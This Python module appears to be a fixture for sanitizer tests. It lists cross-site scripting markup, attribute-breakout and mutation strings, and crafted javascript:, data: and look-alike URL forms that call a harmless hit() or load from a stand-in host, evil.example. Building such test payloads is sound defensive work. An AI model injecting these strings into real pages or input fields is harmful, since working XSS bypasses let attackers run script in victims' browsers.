"""Markup and addresses that try to run a script or to load something, for tests of pages.

Whatever comes to run calls `hit()`; whatever is loaded is asked of evil.example.
"""

from __future__ import annotations

from itertools import product

_TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object")
_EVENTS = (
    "onerror=hit() src=x",
    "onload=hit()",
    "onfocus=hit() autofocus tabindex=0",
    "ontoggle=hit() open",
    "onmouseover=hit()",
    "onanimationstart=hit() style=animation-name:rise",
)
_WHOLE = (
    "<script>hit()</script>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>hit()</script>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template>",
    "<textarea></textarea><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<object data='javascript:hit()'></object>",
    "<embed src='javascript:hit()'>",
    "<form action='javascript:hit()'><button>x</button></form>",
    "<button formaction='javascript:hit()'>x</button>",
    "<a href='javascript:hit()'>x</a>",
    "<a href='jAvAsCrIpT:hit()'>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<a href='\x01javascript:hit()'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='data:text/html,<script>parent.hit()</script>'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a xlink:href='javascript:hit()'>x</a>",
    "<a href=x style=background:url(https://evil.example/a)>x</a>",
    "<p style=\"background:url('https://evil.example/p')\">x</p>",
    "<style>*{background:url(https://evil.example/s)}</style>",
    "<link rel=stylesheet href=https://evil.example/l.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=https://evil.example/i.png>",
    "<img srcset='https://evil.example/i2.png 1x'>",
    "<video poster=https://evil.example/v.png></video>",
    "<picture><source srcset=https://evil.example/s.png><img></picture>",
    "<input type=image src=https://evil.example/b.png>",
    "<p id=Frontdesk name=frontdeskSettings>clobber</p>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "` onerror=hit() x=`",
    "</title><img src=x onerror=hit()>",
    "--><img src=x onerror=hit()>",
    "]]><img src=x onerror=hit()>",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "<img/src=x/onerror=hit()>",
    "<<img src=x onerror=hit()>",
    "<img src=x:x onerror=hit&lpar;&rpar;>",
    "&lt;img src=x onerror=hit()&gt;",
    "<x contenteditable onblur=hit()>y</x>",
    "<select><option><img src=x onerror=hit()></select>",
    "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext><img src=x onerror=hit()>",
)

MARKUP: tuple[str, ...] = _WHOLE + tuple(
    f"<{tag} {event}>" for tag, event in product(_TAGS, _EVENTS)
)

ADDRESSES: tuple[str, ...] = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x00javascript:hit()",
    "javascript://evil.example/%0ahit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit()'/>",
    "vbscript:hit()",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "http://evil.example/x.png",
    "//evil.example/x.png",
    "/\\evil.example/x.png",
    "\\\\evil.example\\x.png",
    "/\t/evil.example/x.png",
    "https:evil.example/x.png",
    "https:\\\\evil.example/x.png",
    "ftp://evil.example/x.png",
    "filesystem:https://evil.example/x",
    "evil.example/x.png",
    "../x.png",
    "#x",
    "?x",
)
